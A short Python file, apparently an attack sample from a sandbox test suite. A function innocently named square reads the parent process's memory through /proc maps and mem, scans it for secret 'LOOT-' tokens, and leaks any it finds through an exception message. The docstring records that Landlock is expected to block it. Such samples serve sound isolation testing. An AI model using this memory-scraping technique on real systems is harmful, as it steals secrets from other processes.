"""Reads the memory of the process that forked it.

stopped by: Landlock, and the outer wall
witness: loot
control: open
"""

import contextlib
import os
import re


def square(x):
    parent, found = os.getppid(), set()
    with open(f"/proc/{parent}/maps") as maps:
        ranges = [line.split()[0].split("-") for line in maps if " rw" in line]
    with open(f"/proc/{parent}/mem", "rb", buffering=0) as pages:
        for begin, end in ranges:
            with contextlib.suppress(OSError, OverflowError):
                pages.seek(int(begin, 16))
                piece = pages.read(min(int(end, 16) - int(begin, 16), 1 << 24))
                found.update(re.findall(rb"LOOT-[0-9a-f]{32}", piece))
    raise ValueError(str(found))
